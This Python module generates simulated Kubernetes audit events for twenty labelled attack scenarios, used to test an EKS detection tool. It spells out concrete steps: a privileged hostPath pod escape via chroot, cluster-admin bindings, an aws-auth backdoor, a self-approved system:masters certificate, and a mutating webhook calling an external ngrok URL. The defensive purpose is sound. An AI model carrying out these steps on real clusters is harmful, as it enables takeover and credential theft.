"""Labelled attack scenarios, all placed after the learning window. `signature` scenarios are ones eksight's
rule engine must catch; `behavior` scenarios look like ordinary requests of a known identity — only a
baseline of that identity (its networks, clients, namespaces, hours, habits) can tell them apart. The test
suite checks both claims against `Detector(default_engine())`.
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import partial

from eksight.tools.simulator import subtle
from eksight.tools.simulator.emit import Who, forbidden_message, user_fragment
from eksight.tools.simulator.kubectl import Client
from eksight.tools.simulator.model import VPS_RANGES, World
from eksight.tools.simulator.people import Person, SsoRole
from eksight.tools.simulator.pods import Pod
from eksight.tools.simulator.util import (
    DAY,
    HOUR,
    MINUTE,
    US,
    csr_request,
    k8s_suffix,
    pick_time,
    seeded,
    utc_offset,
    weekday,
)


@dataclass(frozen=True)
class Scenario:
    id: str
    name: str
    kind: str  # signature | behavior
    mitre: str
    summary: str
    when: str  # work | night | any


CATALOGUE = (
    Scenario(
        "S01",
        "anonymous_api_access",
        "signature",
        "T1078.001",
        "An internet scanner finds a legacy binding that grants view to system:anonymous and enumerates.",
        "any",
    ),
    Scenario(
        "S02",
        "privileged_hostpath_pod_escape",
        "signature",
        "T1611",
        "A developer session creates a privileged pod mounting the node's root and chroots into the host.",
        "work",
    ),
    Scenario(
        "S03",
        "cluster_admin_bound_to_new_serviceaccount",
        "signature",
        "T1098.006",
        "An admin session creates a kube-system service account, binds cluster-admin, mints a token and "
        "uses it from outside.",
        "night",
    ),
    Scenario(
        "S04",
        "cluster_wide_secret_dump_by_human",
        "signature",
        "T1552.007",
        "kubectl get secrets -A -o yaml by an admin session.",
        "night",
    ),
    Scenario(
        "S05",
        "exec_into_kube_system_pod",
        "signature",
        "T1609",
        "An admin session opens a shell in the VPC CNI pod (host network) in kube-system.",
        "any",
    ),
    Scenario(
        "S06",
        "malicious_mutating_webhook",
        "signature",
        "T1546",
        "The on-call role, used by someone who never deploys, registers a mutating webhook on all pod creates "
        "that calls an external URL.",
        "night",
    ),
    Scenario(
        "S07",
        "aws_auth_configmap_backdoor",
        "signature",
        "T1098.006",
        "aws-auth gains a system:masters mapping for a role in another AWS account.",
        "any",
    ),
    Scenario(
        "S08",
        "csr_for_system_masters",
        "signature",
        "T1649",
        "A client certificate for group system:masters is requested and approved by the same session.",
        "night",
    ),
    Scenario(
        "S09",
        "sa_token_used_from_internet",
        "signature",
        "T1528",
        "An application's service-account token, taken from its pod, is replayed with curl from a VPS.",
        "any",
    ),
    Scenario(
        "S10",
        "sa_token_replay_from_private_network",
        "behavior",
        "T1528",
        "The same kind of token replayed with kubectl from the company VPN's client range: the secrets and "
        "ConfigMap the app always reads, from a new address and client.",
        "any",
    ),
    Scenario(
        "S11",
        "dev_reads_secrets_outside_team",
        "behavior",
        "T1552.007",
        "A developer reads individual secrets (gets, not a list) in namespaces they have never touched.",
        "work",
    ),
    Scenario(
        "S12",
        "ci_role_mass_reads",
        "behavior",
        "T1613",
        "The GitHub Actions role lists and reads resources across namespaces it never deploys to.",
        "work",
    ),
    Scenario(
        "S13",
        "offhours_admin_new_network_new_tool",
        "behavior",
        "T1078.004",
        "An admin's SSO session at 3 a.m. local time, from a hosting provider, with a Python client.",
        "night",
    ),
    Scenario(
        "S14",
        "node_credentials_from_external_ip",
        "behavior",
        "T1552.005",
        "A node's IAM role credentials, taken from the instance metadata service, used from outside with a "
        "kubelet user agent.",
        "any",
    ),
    Scenario(
        "S15",
        "exec_by_principal_that_never_execs",
        "behavior",
        "T1609",
        "A developer who never execs opens shells in their team's pods.",
        "work",
    ),
    Scenario(
        "S16",
        "stolen_session_from_cloud_vm",
        "signature",
        "T1078.004",
        "A developer's SSO session, replayed with their exact kubectl user agent from a cloud VM (DigitalOcean), "
        "lists pods and opens a shell in a production pod of their team.",
        "any",
    ),
    Scenario(
        "S17",
        "ci_deploys_image_from_unknown_registry",
        "signature",
        "T1525",
        "The CI deploy role (a poisoned workflow) patches a Deployment to an image in another AWS account's ECR, "
        "a registry the cluster never pulled from.",
        "work",
    ),
    Scenario(
        "S18",
        "security_controls_deleted_then_exec",
        "signature",
        "T1562.001",
        "An admin session deletes a namespace's NetworkPolicy and a ValidatingWebhookConfiguration, then execs "
        "into a pod there minutes later.",
        "work",
    ),
    Scenario(
        "S19",
        "stolen_dev_token_reads_other_team_secrets",
        "behavior",
        "T1552.007",
        "A developer's stolen SSO session, replayed through a residential proxy with their own kubectl at their "
        "usual hours, reads the secrets of two other teams.",
        "work",
    ),
    Scenario(
        "S20",
        "sa_token_replayed_from_another_pod",
        "behavior",
        "T1528",
        "An application's service-account token replayed from another team's compromised pod with the app's own "
        "client: its usual secret read, then refused reads of secrets and pods elsewhere.",
        "any",
    ),
)
BY_NAME = {s.name: s for s in CATALOGUE}


def select(spec: str) -> list[Scenario]:
    spec = (spec or "all").strip()
    if spec == "all":
        return list(CATALOGUE)
    if spec == "none":
        return []
    chosen = []
    for name in (part.strip() for part in spec.split(",") if part.strip()):
        if name not in BY_NAME:
            raise ValueError(f"unknown attack {name!r}; see --list-attacks")
        chosen.append(BY_NAME[name])
    return [s for s in CATALOGUE if s in chosen]


class Attacks:
    def __init__(self, world: World, scenarios: list[Scenario]) -> None:
        self.w = world
        self.rng = seeded(world.seed, "attacks")
        self.scenarios = scenarios if world.test_window else []

    def attach(self) -> None:
        w, rng = self.w, self.rng
        span = w.end - w.learning_end
        actors = {
            "S02": "dev",
            "S03": "admin",
            "S04": "admin",
            "S05": "admin",
            "S06": "sre",
            "S07": "admin",
            "S08": "admin",
            "S11": "dev",
            "S13": "admin",
            "S15": "dev",
            "S16": "dev",
            "S18": "admin",
            "S19": "dev#1",
        }
        for scenario in self.scenarios:
            kind, _, nth = actors.get(scenario.id, "").partition("#")
            actor_zone = (
                self.person(kind, execs=False if scenario.id == "S15" else None, nth=int(nth or 0)).zone
                if kind
                else "America/New_York"
            )
            low, high = w.learning_end + HOUR, w.end - 2 * HOUR
            if high <= low:
                low, high = w.learning_end, max(w.learning_end + 1, w.end - 30 * MINUTE)

            def accept(t: int, when: str = scenario.when, zone: str = actor_zone) -> bool:
                local = t + utc_offset(zone, t)
                hour = local % DAY / HOUR
                if when == "work":
                    return weekday(local) < 5 and 10 <= hour < 16.5
                if when == "night":
                    return 1.5 <= hour < 4.5
                return True

            own = seeded(w.seed, f"attacks-{scenario.id}") if scenario.id in subtle.OWN_STREAMS else rng
            t = pick_time(own, low, high, accept if span > 12 * HOUR else None)
            handler = getattr(self, scenario.name, None) or partial(subtle.ATTACKS[scenario.name], self)
            w.schedule(t, handler, scenario.id)

    # --- helpers ------------------------------------------------------------------------------------------------
    def person(self, kind: str, *, execs: bool | None = None, nth: int = 0) -> Person:
        people = [p for p in self.w.people.people if p.kind == kind and not p.active_from]
        if execs is not None:
            candidates = [p for p in people if p.execs == execs and (execs or not p.k9s)] or people
            if execs is False and any(s.id == "S02" for s in self.scenarios):
                # S02's developer shells into the privileged pod: they are no longer one who never execs
                candidates = [p for p in candidates if p is not people[0]] or candidates
            people = candidates
        return people[nth % len(people)]

    def human(self, kind: str, t: int, tag: str, ip: str = "", ua: str = "", role: SsoRole | None = None) -> Client:
        people = self.w.people
        person = self.person(kind)
        return people.client(person, t, ip or people.location(person, t)[1], ua, role, tag, pace=(0.05, 0.4))

    def vps(self) -> str:
        return self.w.public_ip(self.rng, VPS_RANGES)

    def app_pod(self, t: int, profile: str = "config", skip: Pod | None = None) -> Pod | None:
        pods = [
            p
            for d in self.w.pods.deploys
            if d.app is not None and d.app.profile == profile and d.app.created_at is None
            for p in d.pods
            if p.start <= t < min(p.end, p.node.end)
        ]
        pods = [p for p in pods if skip is None or p.owner is not skip.owner] or pods
        return self.rng.choice(pods) if pods else None

    # --- signature scenarios -------------------------------------------------------------------------------------
    def anonymous_api_access(self, t: int, tag: str) -> None:
        user = user_fragment("system:anonymous", groups=("system:unauthenticated",))
        who = Who(
            user,
            "system:anonymous",
            "python-requests/2.31.0",
            self.vps(),
            'RBAC: allowed by ClusterRoleBinding "legacy-anonymous-view" of ClusterRole "view" to User '
            '"system:anonymous"',
        )
        c = Client(self.w.emitter, who, t, self.rng, tag=tag, pace=(0.05, 0.6))
        c.call("get", uri="/version")
        c.call("get", uri="/api")
        c.list("namespaces", query="")
        c.list("pods", query="")
        c.call(
            "list", "secrets", code=403, message=forbidden_message("system:anonymous", "list", "secrets", "", "", "")
        )
        c.list("configmaps", "kube-system", query="")
        c.get("configmaps", "kube-system", "aws-auth")
        for team in self.w.teams[:3]:
            c.list("services", team.namespace, query="")

    def privileged_hostpath_pod_escape(self, t: int, tag: str) -> None:
        w = self.w
        dev = self.person("dev")
        people = w.people
        c = people.client(dev, t, people.location(dev, t)[1], "", None, tag, pace=(0.5, 3))
        ns, name = dev.own_team.namespace, f"node-debug-{k8s_suffix(self.rng, 5)}"
        body = {
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {"name": name, "namespace": ns},
            "spec": {
                "hostPID": True,
                "hostNetwork": True,
                "containers": [
                    {
                        "name": "debug",
                        "image": "docker.io/library/alpine:3.19",
                        "command": ["sleep", "infinity"],
                        "securityContext": {"privileged": True},
                        "volumeMounts": [{"name": "host", "mountPath": "/host"}],
                    }
                ],
                "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
            },
        }
        c.create("pods", ns, body, query="fieldManager=kubectl-run")
        node = self.rng.choice(w.fleet.ready(c.t))
        w.emitter.event(c.t + 30_000, w.control.scheduler(c.t), "create", "pods", ns, name, "binding", tag=tag)
        kubelet = w.fleet.kubelet(node, c.t)
        w.emitter.event(
            c.t + 4 * US,
            kubelet,
            "patch",
            "pods",
            ns,
            name,
            "status",
            level="Request",
            tag=tag,
            req={"status": {"phase": "Running", "podIP": node.ip, "hostIP": node.ip}},
        )
        c.wait(8, 20)
        c.get("pods", ns, name)
        c.exec(ns, name, "debug", ["chroot", "/host", "/bin/bash"], duration=9 * MINUTE)
        c.wait(540, 600)
        c.call("delete", "pods", ns, name)

    def cluster_admin_bound_to_new_serviceaccount(self, t: int, tag: str) -> None:
        c = self.human("admin", t, tag, ip=self.vps())
        sa = "cluster-maintenance"
        c.create(
            "serviceaccounts",
            "kube-system",
            {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": sa, "namespace": "kube-system"}},
            level="Metadata",
        )
        c.create(
            "clusterrolebindings",
            "",
            {
                "apiVersion": "rbac.authorization.k8s.io/v1",
                "kind": "ClusterRoleBinding",
                "metadata": {"name": f"{sa}-admin"},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
                "subjects": [{"kind": "ServiceAccount", "name": sa, "namespace": "kube-system"}],
            },
        )
        c.call(
            "create",
            "serviceaccounts",
            "kube-system",
            sa,
            "token",
            req={
                "kind": "TokenRequest",
                "apiVersion": "authentication.k8s.io/v1",
                "spec": {"expirationSeconds": 31536000},
            },
        )
        username = f"system:serviceaccount:kube-system:{sa}"
        stolen = Who(
            user_fragment(
                username,
                "5f1c2a9e-0c4b-4c61-9d2a-3b8e2f8d1c07",
                ("system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"),
            ),
            username,
            "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350",
            c.who.ip,
            f'RBAC: allowed by ClusterRoleBinding "{sa}-admin" of ClusterRole "cluster-admin" to '
            f'ServiceAccount "{sa}/kube-system"',
        )
        s = Client(self.w.emitter, stolen, c.t + 20 * MINUTE, self.rng, tag=tag, pace=(0.1, 1))
        s.list("nodes")
        s.list("secrets")

    def cluster_wide_secret_dump_by_human(self, t: int, tag: str) -> None:
        c = self.human("admin", t, tag)
        c.list("namespaces")
        c.call("list", "secrets", query="limit=500")
        c.wait(30, 90)
        c.get("secrets", "argocd", "argocd-initial-admin-secret")

    def exec_into_kube_system_pod(self, t: int, tag: str) -> None:
        c = self.human("admin", t, tag)
        cni = [p for p in self.w.addons.deploys["aws-node"].pods if p.start <= t < min(p.end, p.node.end)]
        if not cni:
            return
        pod = self.rng.choice(cni)
        c.list("pods", "kube-system")
        c.get("pods", "kube-system", pod.name)
        c.exec("kube-system", pod.name, "aws-node", ["sh"], duration=6 * MINUTE)

    def malicious_mutating_webhook(self, t: int, tag: str) -> None:
        w = self.w
        people = w.people
        sre = self.person("sre")
        c = people.client(sre, t, self.vps(), "", sre.oncall or people.roles["SRE-OnCall"], tag, pace=(1, 6))
        host = f"{k8s_suffix(self.rng, 8)}.ngrok-free.app"
        body = {
            "apiVersion": "admissionregistration.k8s.io/v1",
            "kind": "MutatingWebhookConfiguration",
            "metadata": {"name": "pod-policy-injector"},
            "webhooks": [
                {
                    "name": "inject.pod-policy.io",
                    "admissionReviewVersions": ["v1"],
                    "sideEffects": "None",
                    "failurePolicy": "Ignore",
                    "clientConfig": {"url": f"https://{host}/mutate"},
                    "rules": [
                        {
                            "apiGroups": [""],
                            "apiVersions": ["v1"],
                            "operations": ["CREATE"],
                            "resources": ["pods"],
                            "scope": "*",
                        }
                    ],
                }
            ],
        }
        c.list("mutatingwebhookconfigurations")
        c.create("mutatingwebhookconfigurations", "", body, query="fieldManager=kubectl-client-side-apply")

    def aws_auth_configmap_backdoor(self, t: int, tag: str) -> None:
        w = self.w
        c = self.human("admin", t, tag)
        fleet = w.fleet
        roles = "".join(
            f"- groups:\n  - system:bootstrappers\n  - system:nodes\n  rolearn: arn:aws:iam::{w.account}:"
            f"role/{g.role}\n  username: system:node:{{{{EC2PrivateDNSName}}}}\n"
            for g in fleet.groups
        )
        other = str(self.rng.randrange(100_000_000_000, 999_999_999_999))
        backdoor = (
            f"- groups:\n  - system:masters\n  rolearn: arn:aws:iam::{other}:role/ops-support\n"
            "  username: ops-support\n"
        )
        metadata = {"name": "aws-auth", "namespace": "kube-system"}
        body = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": metadata, "data": {"mapRoles": roles + backdoor}}
        c.get("configmaps", "kube-system", "aws-auth")
        c.wait(20, 60)
        c.call(
            "update",
            "configmaps",
            "kube-system",
            "aws-auth",
            query="fieldManager=kubectl-edit",
            level="RequestResponse",
            req=body,
            resp={**body, "metadata": {**metadata, "resourceVersion": w.emitter.rv(c.t)}},
        )

    def csr_for_system_masters(self, t: int, tag: str) -> None:
        c = self.human("admin", t, tag, ip=self.vps())
        name = f"break-glass-{k8s_suffix(self.rng, 4)}"
        spec = {
            "request": csr_request(self.rng, "break-glass", ("system:masters",)),
            "signerName": "kubernetes.io/kube-apiserver-client",
            "expirationSeconds": 31536000,
            "usages": ["client auth"],
        }
        body = {
            "apiVersion": "certificates.k8s.io/v1",
            "kind": "CertificateSigningRequest",
            "metadata": {"name": name},
            "spec": spec,
        }
        c.create("certificatesigningrequests", "", body, level="Request")
        c.wait(5, 20)
        c.call(
            "update",
            "certificatesigningrequests",
            "",
            name,
            "approval",
            level="Request",
            req={
                **body,
                "status": {"conditions": [{"type": "Approved", "status": "True", "reason": "KubectlApprove"}]},
            },
        )
        c.get("certificatesigningrequests", "", name)

    def sa_token_used_from_internet(self, t: int, tag: str) -> None:
        pod = self.app_pod(t)
        if pod is None or pod.owner.app is None:
            return
        app = pod.owner.app
        who = self.w.pods.who(pod, t).using(ua="curl/8.5.0", ip=self.vps())
        c = Client(self.w.emitter, who, t, self.rng, tag=tag, pace=(1, 8))
        c.get("secrets", pod.namespace, app.secret)
        c.get("configmaps", pod.namespace, app.configmap)
        c.call(
            "list",
            "secrets",
            pod.namespace,
            code=403,
            message=forbidden_message(who.username, "list", "secrets", "", "", pod.namespace),
        )

    # --- behaviour-only scenarios ------------------------------------------------------------------------------------
    def sa_token_replay_from_private_network(self, t: int, tag: str) -> None:
        pod = self.app_pod(t)
        if pod is None or pod.owner.app is None:
            return
        app = pod.owner.app
        ip = f"10.255.{self.rng.randrange(0, 64)}.{self.rng.randrange(2, 254)}"  # Client VPN client CIDR
        who = self.w.pods.who(pod, t).using(ua="kubectl/v1.29.4 (linux/amd64) kubernetes/55019c8", ip=ip)

        def authorize(verb: str, resource: str, ns: str, sub: str) -> str | None:
            return (
                who.reason if resource in ("configmaps", "secrets") and verb == "get" and ns == pod.namespace else None
            )

        c = Client(self.w.emitter, who, t, self.rng, authorize=authorize, tag=tag, pace=(2, 20))
        c.get("configmaps", pod.namespace, app.configmap)
        c.get("secrets", pod.namespace, app.secret)
        c.wait(30, 120)
        c.get("secrets", pod.namespace, app.secret)
        c.list("pods", pod.namespace)

    def dev_reads_secrets_outside_team(self, t: int, tag: str) -> None:
        w = self.w
        dev = self.person("dev")
        people = w.people
        c = people.client(dev, t, people.location(dev, t)[1], "", None, tag, pace=(3, 25))
        foreign = [
            team
            for team in w.teams
            if team.namespace not in dev.touched and team is not dev.team and team.created_at is None
        ]
        targets: list[tuple[str, str]] = [(team.namespace, app.secret) for team in foreign[:3] for app in team.apps[:2]]
        targets += [("argocd", "argocd-repo-creds-github"), ("monitoring", "kube-prometheus-stack-grafana")]
        for ns, secret in targets[:9]:
            c.list("pods", ns)
            c.get("secrets", ns, secret)
            c.wait(40, 150)

    def ci_role_mass_reads(self, t: int, tag: str) -> None:
        w = self.w
        c = w.delivery.client(t, tag)
        never = [team.namespace for team in w.teams if team.deployer == "argocd"]
        never += ["monitoring", "argocd", "cert-manager", "external-secrets", "amazon-cloudwatch"]
        c.discovery()
        for ns in never:
            for kind in ("pods", "deployments", "configmaps", "secrets"):
                c.list(kind, ns)
                c.wait(1, 4)
            c.wait(15, 45)
        for ns, name in (
            ("argocd", "argocd-secret"),
            ("monitoring", "alertmanager-kube-prometheus-stack-alertmanager"),
            ("external-secrets", "aws-secretsmanager-credentials"),
        ):
            c.get("secrets", ns, name)
            c.wait(5, 15)

    def offhours_admin_new_network_new_tool(self, t: int, tag: str) -> None:
        c = self.human("admin", t, tag, ip=self.vps(), ua="OpenAPI-Generator/29.0.0/python")
        c.pace = (4, 35)
        c.list("namespaces", query="")
        c.list("nodes", query="")
        c.list("pods", query="")
        c.list("clusterrolebindings", query="")
        c.get("configmaps", "kube-system", "aws-auth")
        c.list("serviceaccounts", query="")
        for team in self.w.teams[:3]:
            c.list("secrets", team.namespace, query="")
            c.get("secrets", team.namespace, team.apps[0].secret)

    def node_credentials_from_external_ip(self, t: int, tag: str) -> None:
        w = self.w
        nodes = [n for n in w.fleet.ready(t) if any(p.owner.app for p in n.pods)]
        if not nodes:
            return
        node = self.rng.choice(nodes)
        who = w.fleet.kubelet(node, t).using(ip=self.vps())
        mounted = sorted({(p.namespace, p.owner.app.secret) for p in node.pods if p.owner.app})
        c = Client(w.emitter, who, t, self.rng, tag=tag, pace=(1, 10))
        c.list("pods", query="")
        c.list("nodes", query="")
        for ns, secret in mounted[:4]:
            c.get("secrets", ns, secret)
        other = [
            (team.namespace, app.secret)
            for team in w.teams
            for app in team.apps
            if (team.namespace, app.secret) not in mounted and team.created_at is None
        ]
        for ns, secret in other[:2]:  # the node authorizer only releases secrets of pods bound to the node
            c.call(
                "get",
                "secrets",
                ns,
                secret,
                code=403,
                message=forbidden_message(
                    who.username,
                    "get",
                    "secrets",
                    "",
                    secret,
                    ns,
                    f": no relationship found between node '{node.name}' and this object",
                ),
            )

    def exec_by_principal_that_never_execs(self, t: int, tag: str) -> None:
        w = self.w
        dev = self.person("dev", execs=False)
        people = w.people
        c = people.client(dev, t, people.location(dev, t)[1], "", None, tag, pace=(2, 15))
        ns = dev.own_team.namespace
        pods = [p for d in w.pods.deploys if d.namespace == ns for p in d.pods if p.start <= t < min(p.end, p.node.end)]
        for pod in self.rng.sample(pods, min(2, len(pods))):
            c.list("pods", ns)
            c.get("pods", ns, pod.name)
            c.exec(ns, pod.name, pod.owner.containers[0]["name"], ["sh"], duration=self.rng.randrange(3, 12) * MINUTE)
            c.wait(200, 700)
            c.exec(ns, pod.name, pod.owner.containers[0]["name"], ["env"], tty=False, duration=2 * US)
